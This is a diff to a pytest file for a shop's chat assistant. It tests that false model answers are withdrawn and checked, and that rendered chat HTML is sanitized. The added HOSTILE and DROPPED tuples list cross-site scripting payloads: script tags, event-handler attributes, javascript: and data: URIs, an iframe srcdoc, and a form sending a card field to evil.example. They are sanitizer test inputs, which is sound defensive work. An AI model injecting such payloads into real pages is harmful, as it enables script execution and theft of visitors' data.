@@ -1,17 +1,24 @@
 """A model that lies: what reaches the visitor is backed, the lie is taken back while it streams, and it is told once."""
 
-from collections.abc import AsyncIterator, Callable
+import json
+from collections.abc import AsyncIterator, Callable, Iterator
+from html.parser import HTMLParser
 from typing import Any
 
 import pytest
-from pydantic_ai.messages import ModelMessage, ModelRequest, UserPromptPart
+from asgiref.sync import sync_to_async
+from pydantic_ai import models
+from pydantic_ai.messages import ModelMessage, ModelMessagesTypeAdapter, ModelRequest, UserPromptPart
 from pydantic_ai.models.function import AgentInfo, DeltaToolCall, DeltaToolCalls, FunctionModel
 
 from chat import run
 from chat.agent import INSTRUCTIONS
+from chat.claims import Backing, check
 from chat.models import Message
+from chat.render import words_to_html
 from shop.models import Product, ShopFact
 from tests.cast import Program
+from tests.standin import Call, Say, StandIn, standin
 
 pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("demo", "turns_end")]
 TRUE = "The **Skarv rain shell** (€189.00) fits best."
@@ -24,6 +31,20 @@ LIES = {
     "an address": "Order at https://evil.example/now today.",
     "the instructions": INSTRUCTIONS,
 }
+# Taken out without a word of the sentence beside it.
+DROPPED = {
+    "a link": "[More](https://evil.example/now).",
+    "a picture": "![x](https://evil.example/a.png)",
+    "a link that runs": "[More](javascript:alert(1)).",
+}
+HOSTILE = (
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt&colon;alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "![x](https://evil.example/a.png)", "[x](//evil.example)", "<https://evil.example>", "[x]: javascript:alert(1)\n\n[x]",
+    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action=https://evil.example><input name=card></form>", "<style>*{display:none}</style>", "`<script>`\n\n```html\n<b>\n```",
+    '[x](/products/1/ "onmouseover=alert(1)")', "<details open ontoggle=alert(1)>", "| <script> | x |\n|---|---|\n| <img src=x> | y |",
+)  # fmt: skip
 
 
 class Liar:
@@ -157,3 +178,72 @@ async def test_a_stored_answer_says_what_has_changed_since() -> None:
     assert told["products"][0]["price"] == by_id[first["id"]]["price"] == 99
     assert by_id[first["id"]]["price_then"] == first["price"]
     assert "price" not in by_id[second["id"]]
+
+
+@pytest.fixture
+def provider(settings: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[StandIn]:
+    """A liar on the other end of a line."""
+    monkeypatch.setattr(models, "ALLOW_MODEL_REQUESTS", True)  # of this machine
+    with standin() as model:
+        settings.CHAT_MODEL, settings.CHAT_MODEL_URL = "liar", model.url
+        yield model
+
+
+def backed(stored: Message) -> bool:
+    return not check(stored.content, Backing(ModelMessagesTypeAdapter.validate_python(stored.history))).wrong
+
+
+@pytest.mark.parametrize("lie", (LIES | DROPPED).values(), ids=LIES | DROPPED)
+async def test_over_the_line_a_lie_is_sent_back_once_and_stored_nowhere(provider: StandIn, lie: str) -> None:
+    other = await Product.objects.exclude(price=189).exclude(compare_at_price=189).filter(name__icontains="rain").afirst()
+    lie = lie.replace("{other}", str(other.price if other else 0))
+    provider.play(Call("search_products", {"words": "Skarv rain shell"}), Say(f"{TRUE} {lie}"))
+    async with Program() as program:
+        answer = await program.say("a rain shell")
+    stored = await Message.objects.aget(pk=answer["id"])
+    assert len(provider.requests) == 3, "the search, the answer, and that once more"
+    assert (stored.model, stored.status) == ("liar", "done")
+    assert stored.content == answer["message"]
+    assert stored.content.startswith((TRUE, "I cannot confirm"))
+    assert lie not in f"{stored.content} {stored.history[-1]}"
+    assert "evil" not in stored.content
+    assert await sync_to_async(backed)(stored)
+    assert stored.input_tokens == sum(len(json.dumps(asked.body)) // 4 for asked in provider.requests)
+
+
+async def test_over_the_line_the_words_are_withdrawn_while_they_stream(provider: StandIn) -> None:
+    provider.play(Call("search_products", {"words": "Skarv rain shell"}), Say("The **Glacier Pro 500** is yours.", pause=0.05), Say(TRUE))
+    seen: list[str] = []
+    async with Program() as program:
+        await program.send(type="message", message="a rain shell")
+        status = "sending"
+        while status == "sending":
+            frame = await program.receive()
+            if frame["role"] == "assistant":
+                status = frame["status"]
+                seen.append(frame["message"])
+    stored = await Message.objects.aget(pk=frame["id"])
+    assert any("Glacier" in said for said in seen)
+    assert not any("Glacier" in said and "Skarv" in said for said in seen)
+    assert seen[-1] == TRUE
+    assert "Corrected the answer" in stored.metadata["steps"]
+
+
+class Tags(HTMLParser):
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+@pytest.mark.parametrize("words", HOSTILE)
+def test_hostile_words_are_harmless_on_the_page(words: str) -> None:
+    for text in (words, f"{TRUE} {words}", f"- {words}\n- **{words}**", f"| a |\n|---|\n| {words} |"):
+        for tag, attrs in Tags(words_to_html(text, "assistant")).found:
+            assert tag in {"a", "p", "br", "strong", "em", "ul", "ol", "li", "code", "table", "thead", "tbody", "tr", "th", "td"}
+            assert set(attrs) <= {"href"}
+            assert (attrs.get("href") or "/products/1/").startswith("/products/")
+        assert {tag for tag, _attrs in Tags(words_to_html(text, "user")).found} <= {"p", "br"}
